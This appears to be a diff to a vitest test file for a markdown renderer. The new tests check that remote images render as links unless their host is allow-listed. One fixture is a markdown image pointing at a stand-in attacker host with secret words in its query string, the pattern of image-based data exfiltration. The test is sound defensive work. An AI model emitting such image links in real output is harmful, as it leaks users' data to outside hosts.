@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { renderMarkdown } from './markdown'
+import { renderMarkdown, setImageHosts } from './markdown'
 
 /** Everything that could run script once the HTML is in the page. */
 function executableBits(html: string): string[] {
@@ -82,5 +82,33 @@ describe('renderMarkdown features', () => {
     const closed = renderMarkdown('```mermaid\ngraph TD\nA-->B\n```\n')
     expect(closed).toContain('class="mermaid-block"')
     expect(closed).toContain(`data-mermaid="${encodeURIComponent('graph TD\nA-->B\n')}"`)
+  })
+})
+
+describe('remote images', () => {
+  it('never load on render: they become links naming their host', () => {
+    setImageHosts([])
+    const html = renderMarkdown('![chart](https://attacker.example/c.png?d=secret%20words)')
+    const host = document.createElement('div')
+    host.innerHTML = html
+    expect(host.querySelector('img')).toBeNull()
+    const link = host.querySelector('a.remote-image')!
+    expect(link.getAttribute('href')).toBe('https://attacker.example/c.png?d=secret%20words')
+    expect(link.getAttribute('target')).toBe('_blank')
+    expect(link.getAttribute('rel')).toBe('noopener noreferrer')
+    expect(link.textContent).toBe('chart (attacker.example)')
+  })
+
+  it('load from an allowed host and as inline data', () => {
+    setImageHosts(['images.example.com'])
+    const host = document.createElement('div')
+    host.innerHTML = renderMarkdown(
+      '![a](https://images.example.com/a.png) ![b](data:image/png;base64,AAAA) ![c](http://images.example.com/c.png) ![d](/api/files/x)',
+    )
+    const sources = [...host.querySelectorAll('img')].map((img) => img.getAttribute('src'))
+    expect(sources).toEqual(['https://images.example.com/a.png', 'data:image/png;base64,AAAA'])
+    expect(host.querySelectorAll('a.remote-image')).toHaveLength(2)
+    expect(host.querySelector('img')!.getAttribute('referrerpolicy')).toBe('no-referrer')
+    setImageHosts([])
   })
 })
